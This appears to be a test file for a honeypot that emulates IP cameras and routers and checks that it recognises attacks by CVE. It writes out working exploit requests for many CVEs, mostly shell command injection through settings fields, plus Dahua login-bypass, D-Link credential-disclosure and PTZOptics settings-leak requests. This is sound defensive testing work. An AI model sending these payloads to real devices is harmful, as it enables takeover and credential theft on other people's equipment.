/** Devices that hand a setting to a shell: each attack in two forms, and what their owners send. */

import { describe, expect, it } from 'vitest';
import { stranger, webMachine } from '../../../../test/support/http-visitor.ts';
import { deviceCommands } from './device-commands.ts';

const machine = webMachine('ip-camera', [...new Set(deviceCommands.map((lure) => lure.product))]);
const form = 'application/x-www-form-urlencoded';

/** What is sent, and the command that is seen. */
const attacks: readonly (readonly [
  cve: string,
  method: string,
  target: string,
  body: string,
  command: string,
])[] = [
  [
    'CVE-2024-3721',
    'POST',
    '/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20%2Ftmp%3Brm%20arm7',
    '',
    'rm arm7',
  ],
  ['CVE-2024-3721', 'GET', '/device.rsp?cmd=___S_O_S_T_R_E_A_MAX___&mdc=`id`', '', 'id'],
  [
    'CVE-2024-7029',
    'GET',
    '/cgi-bin/supervisor/Factory.cgi?action=white_led&brightness=$(id%202>%261)',
    '',
    'id 2>&1',
  ],
  ['CVE-2024-7029', 'GET', '/cgi-bin/supervisor/Factory.cgi?action=Set&brightness=1;id;', '', 'id'],
  [
    'CVE-2020-8515',
    'POST',
    '/cgi-bin/mainfunction.cgi',
    "action=login&keyPath='%0Aid%0A'&loginUser=a&loginPwd=a",
    'id',
  ],
  ['CVE-2024-12987', 'GET', '/cgi-bin/mainfunction.cgi/apmcfgupload?session=x`id`y', '', 'id'],
  [
    'CVE-2024-12856',
    'POST',
    '/apply.cgi',
    'change_action=adjust_sys_time&adj_time_year=$(id)&adj_time_mon=1',
    'id',
  ],
  [
    'CVE-2025-1316',
    'POST',
    '/camera-cgi/admin/param.cgi',
    'action=update&Ipcamera.Time.NTP.ServerName=a&NTP_serverName=;id;',
    'id',
  ],
  ['CVE-2023-25717', 'GET', '/forms/doLogin?login_username=admin&password=admin$(id)&x=0&y=0', '', 'id'],
  [
    'CVE-2024-6047',
    'POST',
    '/DateSetting.cgi',
    'dwTimeZone=12&szSrvIpAddr=time.windows.com;id;&NTP_Update_time_hh=5',
    'id',
  ],
  ['CVE-2024-8957', 'GET', '/cgi-bin/param.cgi?post_network_other_conf&ntp_addr=$(id)', '', 'id'],
  ['CVE-2025-4008', 'GET', '/public/template.cgi?templatefile=$(id)', '', 'id'],
  [
    'CVE-2023-47565',
    'POST',
    '/cgi-bin/server/server.cgi',
    'func=server02_main_submit&SPECIFIC_SERVER=$(id)',
    'id',
  ],
  ['CVE-2023-49897', 'POST', '/cgi-bin/action', 'ntp_server=$(id)', 'id'],
  [
    'CVE-2025-34037',
    'POST',
    '/tmUnblock.cgi',
    'submit_button=&change_action=&action=&commit=0&ttcp_num=2&ttcp_size=2&ttcp_ip=-h+`id`&StartEPI=1',
    'id',
  ],
  [
    'CVE-2022-26210',
    'POST',
    '/cgi-bin/cstecgi.cgi',
    '{"topicurl":"setting/setUpgradeFW","FileName":";id;","Flags":"1"}',
    'id',
  ],
  ['CVE-2020-10987', 'POST', '/goform/setUsbUnload/a', 'deviceName=;id', 'id'],
];

describe('devices that hand a setting to a shell', () => {
  it.each(attacks)('%s: %s %s %s', (cve, method, target, body, command) => {
    const seen = stranger(machine).send(method, target, { 'Content-Type': form }, body);
    expect(seen.cves).toContain(cve);
    expect(seen.status).toBeGreaterThanOrEqual(200);
    expect(seen.status).toBeLessThan(404);
    expect(seen.facts).toContainEqual(expect.objectContaining({ kind: 'command', input: command }));
  });

  it('show what was printed where the product does', () => {
    const shown = (cve: string) => {
      const [, method, target, body] = attacks.find((attack) => attack[0] === cve) ?? ['', 'GET', '/', ''];
      return stranger(machine).send(method, target, { 'Content-Type': form }, body).body;
    };
    for (const cve of ['CVE-2024-7029', 'CVE-2020-8515', 'CVE-2024-12987', 'CVE-2025-4008'])
      expect(shown(cve), cve).toMatch(/uid=0\(/);
    expect(shown('CVE-2024-3721')).not.toMatch(/uid=/);
  });

  it('take no owner for an attacker', () => {
    for (const [method, target, body] of [
      ['GET', '/device.rsp?opt=sys&cmd=ping', ''],
      ['GET', '/cgi-bin/supervisor/Factory.cgi?action=Set&brightness=5', ''],
      ['POST', '/cgi-bin/mainfunction.cgi', 'action=login&formuserid=a&formpwd=b'],
      ['POST', '/apply.cgi', 'change_action=adjust_sys_time&adj_time_year=2026&adj_time_mon=1'],
      ['GET', '/forms/doLogin?login_username=admin&password=secret', ''],
      ['POST', '/DateSetting.cgi', 'dwTimeZone=12&szSrvIpAddr=time.windows.com'],
      ['POST', '/cgi-bin/cstecgi.cgi', '{"topicurl":"getInitCfg"}'],
      ['POST', '/goform/setUsbUnload/a', 'deviceName=sda1'],
      [
        'POST',
        '/RPC2_Login',
        '{"method":"global.login","params":{"userName":"admin","password":"","clientType":"Web3.0"},"id":1}',
      ],
    ] as const) {
      const seen = stranger(machine).send(method, target, { 'Content-Type': form }, body);
      expect(seen.cves, target).toEqual([]);
      expect(
        seen.facts.some((fact) => fact.kind === 'command'),
        target,
      ).toBe(false);
    }
  });
});

it('Dahua: a login as a keyboard is in without a password, and makes calls (CVE-2021-33044)', () => {
  const visitor = stranger(machine);
  const call = (session: string) =>
    visitor.json('/RPC2', { method: 'magicBox.getSystemInfo', params: null, id: 3, session }).body;
  const login = visitor.json('/RPC2_Login', {
    id: 1,
    method: 'global.login',
    params: {
      authorityType: 'Default',
      clientType: 'NetKeyboard',
      loginType: 'Direct',
      password: 'Not Used',
      passwordType: 'Default',
      userName: 'admin',
    },
    session: 0,
  });
  expect(login.cves).toContain('CVE-2021-33044');
  const session = /"session":"([0-9a-f]{32})"/.exec(login.body)?.[1] ?? '';
  expect(call('0')).toContain('Invalid session');
  expect(call(session)).toMatch(/"deviceType":"IPC-/);
});

it('D-Link: the accounts are given to whoever asks (CVE-2021-40655, CVE-2024-0769)', () => {
  const asked = stranger(machine).form('/getcfg.php', 'SERVICES=DEVICE.ACCOUNT&AUTHORIZED_GROUP=1%0a');
  expect(asked.cves).toContain('CVE-2021-40655');
  expect(asked.body).toMatch(/<name>Admin<\/name>[^\0]*<password>[0-9a-f]{10}<\/password>/);
  const walked = stranger(machine).send(
    'POST',
    '/hedwig.cgi',
    { 'Content-Type': 'text/xml', Cookie: 'uid=a' },
    '<?xml version="1.0" encoding="utf-8"?><postxml><module><service>../../../htdocs/webinc/getcfg/DEVICE.ACCOUNT.xml</service></module></postxml>',
  );
  expect(walked.cves).toContain('CVE-2024-0769');
  expect(walked.body).toContain('DEVICE.ACCOUNT');
});

it('PTZOptics: the settings are told to whoever asks (CVE-2024-8956)', () => {
  const asked = stranger(machine).get('/cgi-bin/param.cgi?get_system_conf');
  expect(asked.cves).toContain('CVE-2024-8956');
  expect(asked.body).toMatch(/admin_pwd="[0-9a-f]{32}"/);
});
